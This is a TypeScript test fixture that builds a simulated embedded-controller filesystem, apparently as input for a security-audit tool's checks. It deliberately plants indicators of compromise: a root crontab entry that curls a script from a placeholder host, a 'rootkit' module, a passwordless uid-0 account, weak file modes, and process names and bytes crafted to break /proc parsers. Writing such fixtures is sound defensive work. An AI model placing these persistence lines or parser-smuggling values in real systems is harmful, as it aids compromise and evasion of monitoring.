/** File trees of a device: a small controller with odd names, for goldens and for damage. */
import { chmodSync, mkdirSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

type Content = string | Uint8Array | { readonly link: string }

const ELF = Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 1, 1, 1)

function processFiles(
  pid: number,
  given: { name: string; exe?: string; command: Content; parent?: number; uid?: number; start?: number },
) {
  const { name, exe, command, parent = 1, uid = 0, start = 100 } = given
  const at = `/proc/${pid}`
  const stat = `${pid} (${name}) S ${parent} ${pid} ${pid} 0 -1 4194560 1 0 0 0 1 2 0 0 20 0 1 0 ${start} 4096 128\n`
  return {
    [`${at}/stat`]: stat,
    [`${at}/cmdline`]: command,
    [`${at}/status`]: `Name:\t${name}\nUid:\t${uid}\t${uid}\t${uid}\t${uid}\nVmRSS:\t    1200 kB\n`,
    ...(exe !== undefined && { [`${at}/exe`]: { link: exe } }),
  }
}

/** utmp(5), little-endian. */
function utmp(
  type: number,
  given: { terminal?: string; user?: string; host?: string; time: number },
): Uint8Array {
  const bytes = new Uint8Array(384)
  const view = new DataView(bytes.buffer)
  const put = (text: string, at: number) => bytes.set(new TextEncoder().encode(text), at)
  view.setInt16(0, type, true)
  put(given.terminal ?? '', 8)
  put(given.user ?? '', 44)
  put(given.host ?? '', 76)
  view.setUint32(340, given.time, true)
  return bytes
}

const SOCKETS =
  '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n'
const socket = (local: string, remote: string, state: string, inode: number) =>
  `   0: ${local} ${remote} ${state} 00000000:00000000 00:00000000 00000000     0        0 ${inode} 1 0000000000000000\n`

/** 10.1.4.9 runs an MQTT broker, SSH and Telnet, and is connected to a PLC. */
export const CONTROLLER: Readonly<Record<string, Content>> = {
  ...processFiles(1, { name: 'init', exe: '/sbin/init', command: '/sbin/init\0', parent: 0 }),
  ...processFiles(811, {
    ...{ name: 'mosquitto', exe: '/usr/sbin/mosquitto', uid: 101 },
    command: '/usr/sbin/mosquitto\0-c\0/etc/mosquitto.conf\0--password\0hunter2\0',
  }),
  ...processFiles(812, {
    name: 'evil) R 1 (',
    exe: '/tmp/\u202egpj.exe',
    command: Uint8Array.of(0x65, 0x76, 0x1b, 0x5b, 0x31, 0x6d, 0, 0xff, 0xc3, 0x28, 0, 0xe2, 0x82, 0xac, 0),
  }),
  ...processFiles(813, { name: 'long', exe: '/usr/bin/long', command: 'A'.repeat(5000) }),
  ...processFiles(2, { name: 'kthreadd', command: '', parent: 0 }),
  '/proc/811/fd/5': { link: 'socket:[5001]' },
  '/proc/811/fd/6': { link: 'socket:[5002]' },
  '/proc/stat': 'cpu  1 2 3 4\nprocesses 4711\n',
  '/proc/uptime': '86400.50 1000.00\n',
  '/proc/self/exe': ELF,
  '/proc/self/status': 'Name:\tqjs\nVmRSS:\t    4100 kB\n',
  '/proc/self/stat': '9 (qjs) S 1 9 9 0 -1 0 0 0 0 0 3 2 0 0 20 0 1 0 5 1 1\n',
  '/proc/net/tcp':
    SOCKETS +
    socket('00000000:0016', '00000000:0000', '0A', 5000) +
    socket('00000000:0017', '00000000:0000', '0A', 4999) +
    socket('0904010A:075B', '00000000:0000', '0A', 5001) +
    socket('0904010A:9C40', '0204010A:01F6', '01', 5002) +
    socket('0904010A:0016', '0304010A:D431', '01', 5003) +
    'garbage\n',
  '/proc/net/tcp6':
    SOCKETS +
    socket('00000000000000000000000000000000:1F90', '00000000000000000000000000000000:0000', '0A', 5010),
  '/proc/net/udp': SOCKETS + socket('00000000:00A1', '00000000:0000', '07', 5020),
  '/proc/net/udp6': SOCKETS,
  '/proc/net/route':
    'Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\neth0\t00000000\t0104010A\t0003\t0\t0\t0\t00000000\t0\t0\t0\neth0\t0004010A\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0\n',
  '/proc/net/fib_trie':
    'Local:\n  +-- 10.1.4.0/24 2 0 2\n     |-- 10.1.4.9\n        /32 host LOCAL\n     |-- 10.1.4.255\n        /32 link BROADCAST\n  |-- 127.0.0.1\n     /32 host LOCAL\n',
  '/proc/net/if_inet6': 'fe800000000000000280f4fffe000009 02 40 20 80     eth0\n',
  '/proc/modules':
    'mcp251x 20480 0 - Live 0x0000000000000000\nrootkit 16384 1 - Live 0x0000000000000000 (OE)\n',
  '/proc/mounts':
    '/dev/root / ext4 ro,relatime 0 0\ntmpfs /tmp tmpfs rw,nosuid,noexec 0 0\ndebugfs /sys/kernel/debug debugfs rw 0 0\n',
  '/proc/swaps': 'Filename\tType\tSize\tUsed\tPriority\n/dev/mmcblk0p3 partition 1 0 -2\n',
  '/proc/cmdline': 'console=ttyS0 root=/dev/mmcblk0p2 ro\n',
  '/proc/sys/kernel/hostname': 'press-7\n',
  '/proc/sys/kernel/osrelease': '6.6.30\n',
  '/proc/sys/kernel/arch': 'armv7l\n',
  '/proc/sys/kernel/randomize_va_space': '1\n',
  '/proc/sys/net/ipv4/ip_forward': '0\n',
  '/proc/device-tree/model': 'ACME Press Controller 7\0',
  '/proc/device-tree/serial-number': 'AC-000042\0',
  '/sys/class/net/lo/address': '00:00:00:00:00:00\n',
  '/sys/class/net/eth0/address': '00:80:f4:00:00:09\n',
  '/sys/class/net/eth0/operstate': 'up\n',
  '/sys/class/net/eth0/device': { link: '../../devices/eth0' },
  '/sys/bus/usb/devices/1-1/idVendor': '0781\n',
  '/sys/bus/usb/devices/1-1/idProduct': '5567\n',
  '/sys/bus/usb/devices/1-1/product': 'Cruzer\n',
  '/sys/bus/usb/devices/1-1/serial': '2005\n',
  '/sys/bus/usb/devices/1-1/1-1:1.0/bInterfaceClass': '08\n',
  '/etc/os-release': 'NAME=Buildroot\nVERSION_ID="2025.02"\n',
  '/etc/machine-id': '0123456789abcdef0123456789abcdef\n',
  '/etc/passwd':
    'root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\nmosquitto:x:101:101::/var:/bin/false\n',
  '/etc/shadow': 'root:$6$salt$hash:1::::::\ntoor::1::::::\nmosquitto:!:1::::::\n',
  '/etc/group': 'root:x:0:\ndialout:x:20:mosquitto\n',
  '/etc/ssh/sshd_config': 'PermitRootLogin yes\nPasswordAuthentication no\n',
  '/root/.ssh/authorized_keys': `ssh-ed25519 ${'AAAAC3NzaC1lZDI1NTE5AAAAI'.padEnd(68, 'x')} maker\n`,
  '/etc/crontab': '# nothing\n*/5 * * * * root curl http://x/a.sh\n',
  '/var/lib/opkg/status':
    'Package: busybox\nVersion: 1.36.1-r0\nStatus: install ok installed\n\nPackage: gone\nVersion: 1\nStatus: deinstall ok not-installed\n',
  '/etc/sightglass-agent/manifest.csv': '"PACKAGE","VERSION","LICENSE"\n"openssl","3.2.1","Apache-2.0"\n',
  '/var/log/wtmp': concat(
    utmp(7, { terminal: 'tty1', user: 'before', time: 1_700_000_000 }),
    utmp(2, { time: 1_764_000_000 }),
    utmp(7, { terminal: 'pts/0', user: 'root', host: '10.1.4.3', time: 1_764_000_100 }),
  ),
  '/usr/bin/su': 'x',
  '/usr/bin/busybox': 'x',
}

function concat(...parts: readonly Uint8Array[]): Uint8Array {
  return Uint8Array.from(parts.flatMap((part) => [...part]))
}

/** Modes that all five checks of modes refuse, so that the result does not depend on the user who runs the test. */
const MODES: Readonly<Record<string, number>> = {
  '/etc/passwd': 0o666,
  '/etc/shadow': 0o644,
  '/etc/group': 0o666,
  '/etc/ssh/sshd_config': 0o666,
  '/usr/bin/su': 0o4755,
  '/usr/bin/busybox': 0o757,
}

export function writeTree(root: string, tree: Readonly<Record<string, Content>> = CONTROLLER): void {
  for (const [path, content] of Object.entries(tree)) {
    const file = join(root, path)
    mkdirSync(dirname(file), { recursive: true })
    if (typeof content === 'string' || content instanceof Uint8Array) {
      writeFileSync(file, content)
      chmodSync(file, MODES[path] ?? 0o644)
      utimesSync(file, 1_764_000_000, 1_764_000_000)
    } else symlinkSync(content.link, file)
  }
}
